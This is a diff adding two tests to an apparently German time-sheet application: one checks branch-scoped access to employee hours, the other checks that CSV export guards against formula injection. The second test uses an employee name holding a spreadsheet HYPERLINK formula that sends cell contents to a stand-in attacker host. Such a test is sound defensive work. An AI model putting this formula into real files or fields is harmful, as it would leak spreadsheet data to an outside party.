@@ -487,4 +487,88 @@ describe.each(databaseTargets())("working plan (%s)", (target) => {
     expect(bad.status).toBe(400);
     expect(bad.headers.get("Content-Type")).not.toBe("application/pdf");
   });
+
+  // Issue 35, finding 8c: the sheet showed a shared employee's hours at the other branch.
+  it("shows a manager the time sheets of their own people only, and only their branches' hours", async () => {
+    const db = handle.db;
+    const shared = await createStaff(db, {
+      roles: ["ROLE_EMPLOYEE"],
+      branchIds: [altstadt, hafen],
+      name: "Sophie Geteilt",
+    });
+    // Moved from Hafen to Altstadt: her Hafen day is not Altstadt's business.
+    const moved = await createStaff(db, {
+      roles: ["ROLE_EMPLOYEE"],
+      branchIds: [altstadt],
+      name: "Mona Gewechselt",
+    });
+    await db
+      .insertInto("workingActivities")
+      .values([
+        {
+          userId: shared.id,
+          branchId: hafen,
+          startedAt: new Date("2026-10-06T06:00:00Z"),
+          endedAt: new Date("2026-10-06T14:00:00Z"),
+        },
+        {
+          userId: moved.id,
+          branchId: hafen,
+          startedAt: new Date("2026-10-07T06:00:00Z"),
+          endedAt: new Date("2026-10-07T14:00:00Z"),
+        },
+        {
+          userId: moved.id,
+          branchId: altstadt,
+          startedAt: new Date("2026-10-08T06:00:00Z"),
+          endedAt: new Date("2026-10-08T08:00:00Z"),
+        },
+      ])
+      .execute();
+    const manager = await signedIn(managerA);
+    const hafenActivity = await manager.send(
+      `/api/working-activities?from=2026-10-06&to=2026-10-06&user=${shared.id}`,
+    );
+    expect((await json(hafenActivity)).data).toEqual([]);
+    for (const path of [
+      `/api/time-sheets?user=${shared.id}&month=2026-10`,
+      `/backend/time-sheets?monat=2026-10&person=${shared.id}`,
+      `/backend/time-sheets/export?monat=2026-10&person=${shared.id}`,
+      `/backend/time-sheets/pdf?monat=2026-10&person=${shared.id}`,
+    ]) {
+      const answer = await manager.send(path);
+      expect(answer.status, path).toBe(403);
+      expect(await answer.text(), path).not.toContain("8:00");
+    }
+    const own = await json(await manager.send(`/api/time-sheets?user=${moved.id}&month=2026-10`));
+    expect(own.data.workedMinutes).toBe(120);
+    expect(own.data.days.find((d: any) => d.day === "2026-10-07").workedMinutes).toBe(0);
+    // The head office sees the whole month of both.
+    const office = await signedIn(admin);
+    const all = await json(await office.send(`/api/time-sheets?user=${moved.id}&month=2026-10`));
+    expect(all.data.workedMinutes).toBe(600);
+    const sharedSheet = await office.send(`/api/time-sheets?user=${shared.id}&month=2026-10`);
+    expect((await json(sharedSheet)).data.workedMinutes).toBe(480);
+  });
+
+  // Issue 35, finding 12a: a cell starting with = + - @ runs as a formula in a spreadsheet.
+  it("writes the time sheet's CSV through the formula guard", async () => {
+    const db = handle.db;
+    const name = '=HYPERLINK("https://boese.example/?d="&A1;"Klick")';
+    const eve = await createStaff(db, { roles: ["ROLE_EMPLOYEE"], branchIds: [altstadt], name });
+    const csv = await (
+      await signedIn(managerA)
+    ).send(`/backend/time-sheets/export?monat=2026-10&person=${eve.id}`);
+    expect(csv.status).toBe(200);
+    const bytes = new Uint8Array(await csv.arrayBuffer());
+    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const text = new TextDecoder("utf-8").decode(bytes);
+    const lines = text.split("\r\n");
+    expect(lines[0]).toBe("Person;Tag;Soll;Ist;Hinweis");
+    // The name is one quoted cell behind a quote mark: text, never a formula.
+    expect(lines[1]).toBe(
+      `"'=HYPERLINK(""https://boese.example/?d=""&A1;""Klick"")";01.10.2026;0:00;0:00;`,
+    );
+    expect(text).not.toMatch(/(^|;|\n)=HYPERLINK/);
+  });
 });
